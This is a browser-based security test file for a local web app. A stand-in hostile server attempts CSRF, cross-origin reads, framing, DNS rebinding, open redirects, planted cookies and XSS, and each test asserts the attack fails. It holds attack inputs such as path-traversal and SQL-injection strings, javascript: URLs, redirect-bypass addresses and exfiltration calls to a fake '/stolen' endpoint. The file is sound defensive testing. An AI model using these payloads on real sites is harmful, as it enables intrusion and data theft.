"""Attacks in a real browser, from other sites, other ports and within: nothing is changed, nothing is read.

Another server on another port of this machine plays the hostile site; other names lead here by a rule of the browser, as
they would after an attack on the name service. Each case tries to change something or to read a canary.
"""

import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from e2e.app import HOSTILE, PASSPHRASE, serving

from nearer.app.choices import load_choices
from nearer.app.helplines import keep_own_number, own_numbers
from nearer.app.place import Place

pytestmark = pytest.mark.browser

CANARY = "canary-5f1d"
READ = """
async ([url, options]) => {
  try {
    const answer = await fetch(url, options);
    return [answer.type, answer.status, await answer.text()];
  } catch (error) { return ["failed", 0, ""]; }
}
"""


class Hostile(BaseHTTPRequestHandler):
    """Answers any path with what the test put there; notes what comes back."""

    def do_GET(self):
        self.server.seen.append(self.path)
        body = self.server.pages.get(
            self.path.partition("?")[0], "<!doctype html><title>hostile</title><p>hello</p>"
        )
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(body.encode())

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.do_GET()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def hostile():
    with ThreadingHTTPServer(("127.0.0.1", 0), Hostile) as server:
        server.pages, server.seen = {}, []
        server.origin = f"http://127.0.0.1:{server.server_address[1]}"
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def target(tmp_path_factory, chromium):
    place = Place(tmp_path_factory.mktemp("attacks") / "place")
    place.create(PASSPHRASE)
    keep_own_number(place.store, CANARY, "555 0100", "")
    with serving(place, chromium) as running:
        yield running


@pytest.fixture
def victim(target):
    """A browser that is let in, for one test; afterwards nothing may have changed."""
    if not target.place.is_open:
        target.place.unlock(PASSPHRASE)
    before = state_of(target)
    context = target.context()
    yield context
    assert target.place.is_open
    assert state_of(target) == before
    context.close()


def state_of(target):
    return [(one.name, one.number) for one in own_numbers(target.place.store)], load_choices(
        target.place.folder
    )


def visit(victim, hostile, body, path="/attack", origin=None):
    """Open a hostile page that holds a body."""
    hostile.pages[path] = f"<!doctype html><meta charset=utf-8><title>hostile</title>{body}"
    page = victim.new_page()
    page.goto((origin or hostile.origin) + path)
    return page


SITES = ["127.0.0.1", "localhost", "nearer.localhost", "other.localhost"]


def site(hostile, name):
    return f"http://{name}:{hostile.server_address[1]}"


@pytest.mark.parametrize("name", SITES)
def test_another_port_reads_nothing(victim, target, hostile, name):
    page = visit(victim, hostile, "", origin=site(hostile, name))
    for host in ("127.0.0.1", "nearer.localhost", "localhost"):
        for mode in ("cors", "no-cors", "same-origin"):
            options = {"credentials": "include", "mode": mode}
            assert page.evaluate(READ, [f"http://{host}:{target.port}/help", options])[1:] == [0, ""]


@pytest.mark.parametrize("path", ["/lock", "/leave", "/help/numbers", "/settings/look", "/unlock"])
def test_another_port_sends_nothing(victim, target, hostile, path):
    page = visit(victim, hostile, "")
    body = "name=evil&number=1&theme=dark&contrast=more&secret=x&next=/"
    for kind in ("application/x-www-form-urlencoded", "text/plain", "application/json"):
        for mode in ("no-cors", "cors"):
            options = {
                "method": "POST",
                "credentials": "include",
                "mode": mode,
                "body": body,
                "headers": {"Content-Type": kind},
            }
            assert page.evaluate(READ, [target.url + path, options])[2] == ""
    page.evaluate("([url, body]) => navigator.sendBeacon(url, body)", [target.url + path, body])
    page.wait_for_timeout(200)


@pytest.mark.parametrize("method", ["post", "get"])
@pytest.mark.parametrize("path", ["/lock", "/leave", "/help/numbers", "/help/numbers/1/delete"])
def test_a_form_of_another_site_does_nothing(victim, target, hostile, path, method):
    form = f"<form method={method} action='{target.url}{path}'><input name=name value=evil><input name=number value=1></form>"
    page = visit(victim, hostile, form)
    page.evaluate("document.forms[0].submit()")
    page.wait_for_url(f"**{path}*")
    assert CANARY not in page.content()


@pytest.mark.parametrize("kind", ["multipart/form-data", "text/plain"])
def test_a_form_of_another_encoding_does_nothing(victim, target, hostile, kind):
    form = f"<form method=post enctype={kind} action='{target.url}/lock'><input name=a value=b></form>"
    page = visit(victim, hostile, form)
    page.evaluate("document.forms[0].submit()")
    page.wait_for_url("**/lock")


def test_a_form_sent_from_a_sandbox_does_nothing(victim, target, hostile):
    inner = f"<form method=post action={target.url}/lock></form><script>document.forms[0].submit()</script>"
    page = visit(victim, hostile, f"<iframe sandbox='allow-scripts allow-forms' srcdoc=\"{inner}\"></iframe>")
    page.wait_for_timeout(500)


EMBEDDED = (
    "<img src='{url}'>",
    "<script src='{url}'></script>",
    "<script type=module src='{url}'></script>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<link rel=preload as=fetch href='{url}' crossorigin=use-credentials>",
    "<video src='{url}'></video>",
    "<audio src='{url}'></audio>",
    "<style>body {{ background: url('{url}') }}</style>",
    "<input type=image src='{url}'>",
)
FRAMED = ("<iframe src='{url}'></iframe>", "<object data='{url}'></object>", "<embed src='{url}'>")


@pytest.mark.parametrize("path", ["/help", "/static/nearer.js", "/static/mark.svg"])
def test_nothing_is_embedded(victim, target, hostile, path):
    asked, given = [], []
    page = victim.new_page()
    page.on("request", lambda request: request.url.startswith(target.url) and asked.append(request.url))
    page.on("response", lambda answer: answer.url.startswith(target.url) and given.append(answer.status))
    hostile.pages["/embed"] = "<!doctype html><title>x</title>" + "".join(
        tag.format(url=f"{target.url}{path}?{number}") for number, tag in enumerate(EMBEDDED)
    )
    page.goto(hostile.origin + "/embed")
    page.wait_for_timeout(500)
    assert len(set(asked)) >= len(EMBEDDED) - 2
    assert set(given) <= {403}  # most do not even reach the page that asked


@pytest.mark.parametrize("path", ["/help", "/settings", "/unlock", "/away"])
def test_nothing_is_framed(victim, target, hostile, path):
    page = visit(victim, hostile, "".join(tag.format(url=target.url + path) for tag in FRAMED))
    page.wait_for_timeout(500)
    for frame in page.frames[1:]:
        content = frame.content()
        assert CANARY not in content
        assert "<form" not in content
        assert "<textarea" not in content


def test_a_window_that_was_opened_cannot_be_looked_into(victim, target, hostile):
    page = visit(victim, hostile, "")
    with victim.expect_page() as opened:
        page.evaluate("(url) => { window.other = open(url) }", target.url + "/help")
    opened.value.wait_for_load_state()
    assert CANARY not in opened.value.content()
    seen = page.evaluate(
        "(() => { try { return String(other.length) + other.document } catch { return 'closed' } })()"
    )
    assert "closed" in seen or seen.startswith("0")
    assert page.evaluate("(() => { try { return other.document.title } catch { return '' } })()") == ""


def test_no_page_keeps_a_hold_on_a_window_of_ours(victim, target, hostile):
    page = victim.new_page()
    page.goto(target.url + "/help")
    with victim.expect_page() as opened:
        page.evaluate("(url) => { window.other = open(url) }", hostile.origin + "/other")
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("opener === null")


@pytest.mark.parametrize("name", ["rebound.example", "nearer.localhost.example", "127.0.0.1.example"])
def test_a_foreign_name_that_leads_here_gets_nothing(target, chromium, name):
    rule = f"--host-resolver-rules=MAP {name} 127.0.0.1"
    browser = chromium.browser_type.launch(
        executable_path=shutil.which("chromium"), args=["--no-sandbox", rule]
    )
    try:
        page = browser.new_page()
        page.goto(f"http://{name}:{target.port}/help")
        assert page.locator("h1").text_content() == "Not quite"
        assert page.evaluate(READ, [f"http://{name}:{target.port}/static/nearer.js", {}])[1] == 421
        page.goto(f"http://{name}:{target.port}" + target.gate.launch_path())
        assert page.context.cookies() == []
    finally:
        browser.close()


def test_a_launch_link_works_once(target, victim):
    link = target.launch_url
    first, second = target.context(launched=False), target.context(launched=False)
    page = first.new_page()
    page.goto(link)
    assert page.url == target.url + "/"
    page = second.new_page()
    page.goto(link)
    assert page.locator("h1").text_content() == "Not open here"
    assert second.cookies() == []


def test_the_session_is_out_of_reach_of_scripts_and_other_names(target, victim):
    page = victim.new_page()
    page.goto(target.url + "/help")
    assert page.evaluate("document.cookie") == ""
    [cookie] = victim.cookies(target.url)
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Strict"
    assert victim.cookies("http://nearer.localhost") == []
    page.goto(f"http://nearer.localhost:{target.port}/settings")
    assert page.locator("h1").text_content() == "Not open here"


@pytest.mark.parametrize("value", ["", "x", "x" * 4000, "' OR 1=1 --", "../../etc/passwd"])
def test_a_planted_cookie_lets_nobody_in(target, victim, value):
    context = target.context(launched=False)
    context.add_cookies([{"name": f"nearer-{target.port}", "value": value, "url": target.url}])
    page = context.new_page()
    page.goto(target.url + "/help")
    assert CANARY not in page.content()
    page.goto(target.url + "/settings")
    assert page.locator("h1").text_content() == "Not open here"


@pytest.mark.parametrize(
    "url",
    [
        "//{evil}/",
        "http://{evil}/",
        "/\\{evil}/",
        "/%5C{evil}/",
        "/%09/{evil}/",
        "javascript:window.hacked=1",
    ],
)
def test_unlocking_leads_to_no_other_site(target, victim, hostile, url):
    address = url.format(evil=hostile.origin.removeprefix("http://"))
    target.place.lock()
    page = victim.new_page()
    hostile.seen.clear()
    page.goto(f"{target.url}/unlock?next={address}")
    page.locator("#secret").fill(PASSPHRASE)
    page.get_by_role("button", name="Unlock").click()
    page.wait_for_function("!location.pathname.startsWith('/unlock')")
    page.wait_for_load_state()
    assert page.url.startswith(target.url + "/")
    assert hostile.seen == []


def test_script_in_own_numbers_stays_text(served):
    page = served.page("/help")
    for count, text in enumerate(HOSTILE, 1):
        page.get_by_text("Add a number").first.click()
        for name in ("name", "number", "note"):
            page.evaluate("([id, text]) => { document.getElementById(id).value = text }", [name, text[:200]])
        page.get_by_role("button", name="Add a number").click()
        page.wait_for_load_state()
        assert page.locator(".numbers li").count() == count
        assert page.evaluate("window.hacked") is None
        assert page.evaluate("window.violated") == []
    assert all(url.startswith((served.url, "data:")) for url in page.requests)
    planted = ", ".join(
        f".numbers {name}" for name in ("script", "img", "iframe", "svg", "style", "base", "a", "meta")
    )
    assert page.locator(planted).count() == 0


@pytest.mark.parametrize("path", ["/{}", "/unlock?next={}", "/settings?{}", "/static/{}", "/launch/{}"])
def test_script_in_addresses_stays_text(target, victim, path):
    page = victim.new_page()
    for text in HOSTILE:
        page.goto(target.url + path.format(text.replace("#", "%23").replace("\x00", "%00")))
        assert page.evaluate("window.hacked") is None
        assert page.evaluate("window.violated") == []


def test_an_inline_script_would_not_run(target, victim):
    page = victim.new_page()
    page.goto(target.url + "/help")
    page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\"><a id=evil href=\"javascript:window.hacked=1\">x</a>')"
    )
    page.evaluate(
        "(() => { const one = document.createElement('script'); one.textContent = 'window.hacked = 1'; document.body.append(one) })()"
    )
    page.evaluate("document.getElementById('evil').click()")
    page.wait_for_timeout(200)
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("window.violated").count("script-src-elem inline") >= 1


def test_a_page_of_ours_sends_nothing_elsewhere(target, victim, hostile):
    page = victim.new_page()
    page.goto(target.url + "/help")
    hostile.seen.clear()
    page.evaluate(READ, [hostile.origin + "/stolen", {"mode": "no-cors"}])
    page.evaluate(f"new Image().src = '{hostile.origin}/stolen.png'")
    page.evaluate(
        f"(() => {{ const form = document.createElement('form'); form.action = '{hostile.origin}/stolen'; form.method = 'post';"
        " document.body.append(form); form.submit() })()"
    )
    page.evaluate(f"navigator.sendBeacon('{hostile.origin}/stolen', 'x')")
    page.wait_for_timeout(500)
    assert [path for path in hostile.seen if "stolen" in path] == []
    assert page.url == target.url + "/help"


def test_a_websocket_is_not_spoken(target, victim, hostile):
    page = visit(victim, hostile, "")
    opened = page.evaluate(
        "(url) => new Promise((done) => { const one = new WebSocket(url); one.onopen = () => done(true); one.onerror = () => done(false) })",
        target.url.replace("http", "ws") + "/help",
    )
    assert opened is False


def test_nothing_of_ours_stays_in_the_browser(target, victim):
    page = victim.new_page()
    page.goto(target.url + "/help")
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0
    assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
